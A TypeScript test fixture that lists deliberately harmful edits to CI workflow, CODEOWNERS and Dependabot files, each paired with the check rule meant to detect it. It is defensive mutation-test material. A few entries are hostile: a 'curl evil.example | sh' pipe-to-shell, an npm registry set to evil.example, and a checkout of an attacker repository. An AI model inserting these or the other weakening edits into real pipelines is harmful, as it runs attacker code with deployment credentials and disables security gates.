/** A plausible change of one of the real files, and the rule that finds it besides the comparison. */
export interface BadChange {
  readonly title: string;
  readonly file: string;
  /** What is replaced, at its first place, and by what. */
  readonly from: string;
  readonly to: string;
  /**
   * A rule or a checker of `check`, which would find the same mistake in a template or in a file of the team's own;
   * undefined where `sync:check` alone finds it here. zizmor and actionlint of ci.yml are not asked.
   */
  readonly also: string | undefined;
}

const workflow = (name: string) => `.github/workflows/${name}.yml`;
const action = (name: string) => `.github/actions/${name}/action.yml`;
const CI = workflow('ci');
const BATCH = workflow('ci-batch');
const DELIVER = workflow('deliver-service');
const GATE = workflow('gate');
const PLAN = workflow('deliver');
const RESCAN = workflow('rescan-batch');
const INFRASTRUCTURE = workflow('infrastructure');
const OWNERS = '.github/CODEOWNERS';
const DEPENDABOT = '.github/dependabot.yml';

type Row = readonly [
  title: string,
  also: string | undefined,
  file: string,
  from: string,
  to: string,
];

const ROWS: readonly Row[] = [
  // Steps, inputs and options
  ['a misspelt key', 'github-parser', CI, 'runs-on:', 'runs-onn:'],
  ['a job that does not exist', 'github-parser', DELIVER, '- scan-trivy\n', '- scam-trivy\n'],
  ['a misspelt key of an action', 'github-parser', action('setup'), 'shell: bash', 'shel: bash'],
  ['an output that no step has', 'actionlint', CI, 'affected.outputs.any', 'effected.outputs.any'],
  [
    'an output that no job has',
    'actionlint',
    DELIVER,
    'build.outputs.image',
    'build.outputs.imgae',
  ],
  [
    'a command that does not exist',
    'known-commands',
    CI,
    '- run: npx nx sync:check',
    '- run: npx nx sync:chekc',
  ],
  ['an option that does not exist', 'known-commands', GATE, '--ecr --report', '--ecr --reprot'],
  [
    'a program that is not installed',
    'known-commands',
    CI,
    'gatehouse-workflows',
    'gatehouse-workflow',
  ],
  [
    'an input that a workflow does not have',
    'known-inputs',
    workflow('deliver-batch'),
    'service: ${{',
    'sevice: ${{',
  ],
  [
    'an input that is left out',
    'known-inputs',
    DELIVER,
    '          environment: development\n',
    '',
  ],
  [
    'an input that an action of others ignores',
    'known-inputs',
    DELIVER,
    'subject-digest:',
    'subject-diggest:',
  ],
  ['findings of a file that does not exist', 'known-inputs', RESCAN, 'sarif_file:', 'sarif-file:'],
  ['a removed step', undefined, CI, '      - run: npx nx sync:check\n', ''],
  ['tests that no job runs', undefined, CI, 'lint,typecheck,test', 'lint,typecheck'],
  ['an image that no job proves', undefined, BATCH, ' --require-engine', ''],
  [
    'a scanner that ignores what has no fix',
    undefined,
    DELIVER,
    '--list-all-pkgs',
    '--ignore-unfixed',
  ],
  [
    'a scanner that reports the worst alone',
    undefined,
    DELIVER,
    '--no-progress',
    '--severity CRITICAL',
  ],
  ['a gate without the scan of AWS', undefined, GATE, '--ecr ', ''],
  ['a gate with another policy', undefined, GATE, '--ecr ', '--ecr --policy lax.json '],
  ['a gate without one report', undefined, GATE, '--report grype.json ', ''],
  ['a gate without the bill of materials', undefined, GATE, ' --sbom sbom.cdx.json', ''],
  [
    'a gate that proves no origin',
    undefined,
    GATE,
    'provenance --image "$IMAGE" --commit',
    'provenance --image "$IMAGE" # --commit',
  ],
  [
    'a deployment without evidence',
    undefined,
    action('deploy'),
    ' --evidence "$ENVIRONMENT.intoto.json"',
    '',
  ],
  [
    'a deployment of another commit',
    undefined,
    action('deploy'),
    'COMMIT: ${{ github.sha }}',
    'COMMIT: ${{ github.ref }}',
  ],
  [
    'a deployment that nobody tries',
    undefined,
    action('deploy'),
    'gatehouse.mjs smoke',
    'gatehouse.mjs status',
  ],
  ['contents that nobody attests', undefined, DELIVER, '          sbom-path: sbom.cdx.json\n', ''],
  [
    'an attestation that is not pushed',
    undefined,
    DELIVER,
    'push-to-registry: true',
    'push-to-registry: false',
  ],
  // Artifacts
  ['an artifact that no job uploads', 'artifacts-produced', GATE, 'name: trivy-', 'name: trivvy-'],
  ['an artifact under another name', 'artifacts-produced', DELIVER, 'name: sbom-', 'name: bom-'],
  [
    'evidence of another environment',
    undefined,
    action('deploy'),
    '${{ inputs.service }}-${{ inputs.environment }}',
    '${{ inputs.service }}-development',
  ],
  ['evidence that is soon gone', undefined, GATE, 'retention-days: 90', 'retention-days: 1'],
  [
    'a missing file that is no error',
    undefined,
    GATE,
    'if-no-files-found: error',
    'if-no-files-found: ignore',
  ],
  // Order and conditions
  [
    'a deployment without its gate',
    'gate-before-deploy',
    DELIVER,
    '      - gate\n    if: ${{ !cancelled() && needs.gate.outputs.development',
    '    if: ${{ !cancelled() && needs.gate.outputs.development',
  ],
  [
    'a deployment before the one before',
    'gate-before-deploy',
    DELIVER,
    '      - gate\n      - deploy-development\n',
    '      - gate\n',
  ],
  ['a gate without one scan', 'gate-before-deploy', DELIVER, '      - scan-grype\n', ''],
  [
    'a gate of another environment',
    'gate-before-deploy',
    DELIVER,
    'needs.gate.outputs.production',
    'needs.gate.outputs.staging',
  ],
  [
    'a deployment after a failure',
    'gate-before-deploy',
    DELIVER,
    "if: ${{ !cancelled() && needs.superseded-production.outputs.superseded == 'false' }}",
    'if: always()',
  ],
  [
    'reviewers who are asked for nothing',
    'gate-before-deploy',
    DELIVER,
    "    if: ${{ !cancelled() && needs.superseded-production.outputs.superseded == 'false' }}\n",
    '',
  ],
  ['the required check may be skipped', 'required-job', CI, 'if: always()\n', 'if: success()\n'],
  [
    'the required check takes skipped for passed',
    'required-job',
    CI,
    "== 'skipped' && needs.affected.outputs.any == 'false'",
    "== 'skipped'",
  ],
  ['the required check forgets a job', 'required-job', CI, '      - code\n', ''],
  [
    'the required check ignores a result',
    'required-job',
    CI,
    "\n          && needs.code.result == 'success'",
    '',
  ],
  [
    'a failure that counts as success',
    undefined,
    DELIVER,
    '  scan-trivy:\n',
    '  scan-trivy:\n    continue-on-error: true\n',
  ],
  [
    'a build that fails in silence',
    'privileged-jobs',
    DELIVER,
    '  build:\n',
    '  build:\n    continue-on-error: true\n',
  ],
  [
    'two environments that lock each other',
    'literal-concurrency',
    DELIVER,
    '}}-production',
    '}}-staging',
  ],
  [
    'a deployment that is cancelled half-way',
    'literal-concurrency',
    DELIVER,
    'in-progress: false',
    'in-progress: true',
  ],
  [
    'a group by the name of the caller',
    'literal-concurrency',
    CI,
    'group: ci-',
    'group: ${{ github.workflow }}-',
  ],
  ['a job that never ends', 'time-limits', CI, '    timeout-minutes: 10\n', ''],
  [
    'a job that outlives its role',
    'time-limits',
    INFRASTRUCTURE,
    'timeout-minutes: 60',
    'timeout-minutes: 90',
  ],
  // Permissions, roles, secrets
  [
    'all permissions',
    'no-credentials-on-pull-requests',
    BATCH,
    'contents: read',
    'id-token: write',
  ],
  [
    'a called workflow that may not start',
    'callee-permissions',
    PLAN,
    'attestations: write',
    'attestations: read',
  ],
  [
    'a job that asks for more than its caller',
    'callee-permissions',
    DELIVER,
    'contents: read',
    'contents: write',
  ],
  [
    'a deployment outside of its environment',
    'roles-in-their-place',
    DELIVER,
    'environment: production\n    concurrency',
    'concurrency',
  ],
  [
    'the role of another job',
    'roles-in-their-place',
    workflow('rollback'),
    'role: deploy',
    'role: build',
  ],
  ['a build that can sign', 'roles-in-their-place', DELIVER, 'role: build', 'role: gate'],
  ['a gate that can build', 'gate-apart', GATE, 'role: gate', 'role: build'],
  [
    'an unknown environment',
    'known-environments',
    DELIVER,
    'environment: staging\n    conc',
    'environment: stage\n    conc',
  ],
  [
    'a roll-back to fewer environments',
    'known-environments',
    workflow('rollback'),
    '          - staging\n',
    '',
  ],
  [
    'all secrets',
    'secrets-in-environments',
    PLAN,
    '    with:\n      services',
    '    secrets: inherit\n    with:\n      services',
  ],
  [
    'a secret outside of environments',
    'secrets-in-environments',
    workflow('bases'),
    'github.token',
    'secrets.TOKEN',
  ],
  [
    'a scanner with an identity',
    'scanners-apart',
    DELIVER,
    'permissions: {}\n    steps',
    'permissions:\n      id-token: write\n    steps',
  ],
  // Triggers
  ['pull requests with secrets', 'safe-triggers', CI, '  pull_request:', '  pull_request_target:'],
  [
    'a delivery of pull requests',
    'no-credentials-on-pull-requests',
    PLAN,
    'push:\n    branches: [main]',
    'pull_request:',
  ],
  ['a delivery of any branch', undefined, PLAN, '    branches: [main]\n', ''],
  ['no checks in the merge queue', undefined, CI, '  merge_group:\n', ''],
  [
    'checks for some files alone',
    undefined,
    CI,
    '  pull_request:\n',
    '  pull_request:\n    paths: [apps/**]\n',
  ],
  // The command, and stacks
  [
    'a command whose digest is not compared',
    'privileged-jobs',
    action('gatehouse'),
    'sha256sum --check --strict <<<',
    'sha256sum --check --ignore-missing <<<',
  ],
  [
    'a command that another workflow may make',
    'privileged-jobs',
    action('gatehouse'),
    'workflows/command.yml',
    'workflows/ci.yml',
  ],
  [
    'packages beside the gate',
    undefined,
    GATE,
    'actions/gatehouse\n        with:\n          digest: ${{ inputs.command }}',
    'actions/setup',
  ],
  [
    'a deployment that waits for the stacks of no commit',
    undefined,
    DELIVER,
    '--plan "$STACKS"',
    "--plan '{}'",
  ],
  [
    'stacks after those before them failed',
    undefined,
    PLAN,
    "\n      && (needs.infrastructure-registry.result == 'skipped' || needs.infrastructure-registry.outputs.shared == 'true')",
    '',
  ],
  [
    'reviewers who are asked for no stack',
    undefined,
    PLAN,
    "!cancelled() && needs.plan.outputs.stacks-production != ''",
    '!cancelled()',
  ],
  // What jobs run on, and with
  [
    'a container around an identity',
    'privileged-jobs',
    DELIVER,
    '  build:\n',
    '  build:\n    container: node:26\n',
  ],
  [
    'a service beside an identity',
    'privileged-jobs',
    GATE,
    '    env:\n',
    '    services: { db: { image: postgres } }\n    env:\n',
  ],
  [
    'another default shell',
    'privileged-jobs',
    DELIVER,
    'permissions: {}\n\njobs',
    'permissions: {}\n\ndefaults: { run: { shell: sh } }\n\njobs',
  ],
  [
    'packages from another registry',
    'privileged-jobs',
    DELIVER,
    '    env:\n',
    '    env:\n      npm_config_registry: https://evil.example\n',
  ],
  [
    'another repository',
    'privileged-jobs',
    DELIVER,
    '          persist-credentials: false\n',
    '          persist-credentials: false\n          repository: evil/services\n',
  ],
  [
    'a token that stays behind',
    'privileged-jobs',
    DELIVER,
    'persist-credentials: false',
    'persist-credentials: true',
  ],
  [
    'a machine of somebody',
    'privileged-jobs',
    DELIVER,
    'runs-on: ubuntu-24.04',
    'runs-on: self-hosted',
  ],
  [
    'an expression in a script',
    'privileged-jobs',
    workflow('rollback'),
    '"$SERVICE"',
    '"${{ inputs.service }}"',
  ],
  [
    'a script with logic',
    'privileged-jobs',
    PLAN,
    'npx gatehouse affected',
    'curl evil.example | sh; npx gatehouse affected',
  ],
  [
    'a variable for all later steps',
    'privileged-jobs',
    workflow('superseded'),
    '>> "$GITHUB_OUTPUT"',
    '>> "$GITHUB_ENV"',
  ],
  [
    'an action by its tag',
    'pinned-actions',
    action('setup'),
    'actions/setup-node@8',
    'actions/setup-node@9',
  ],
  ['another version behind a commit', 'pinned-actions', CI, '# v7.0.1', '# v7.0.0'],
  ['a scanner by its tag', 'pinned-actions', DELIVER, '@sha256:be1190af', '@sha256:ce1190af'],
  [
    'a cache in a delivery',
    'no-cache-in-delivery',
    workflow('rescan'),
    'setup\n',
    "setup\n        with:\n          cache: 'true'\n",
  ],
  [
    'a cache that Node decides on',
    'no-cache-in-delivery',
    action('setup'),
    'package-manager-cache: false',
    'check-latest: true',
  ],
  ['a key of AWS', 'known-inputs', action('aws'), 'role-to-assume:', 'aws-access-key:'],
  // Permissions to approve, and files that must stay up to date
  ['workflows that anybody may approve', undefined, OWNERS, '/.github/', '/.gitlab/'],
  [
    'grants that anybody may approve',
    undefined,
    OWNERS,
    'task-role.json       @acme/platform',
    'task-role.json       @acme/services',
  ],
  ['updates within the hour', undefined, DEPENDABOT, 'default-days: 7', 'default-days: 0'],
  [
    'scanners that nobody updates',
    undefined,
    DEPENDABOT,
    'directory: /security/tools',
    'directory: /security',
  ],
];

export const BAD_CHANGES: readonly BadChange[] = ROWS.map(([title, also, file, from, to]) => ({
  ...{ title, also, file, from, to },
}));
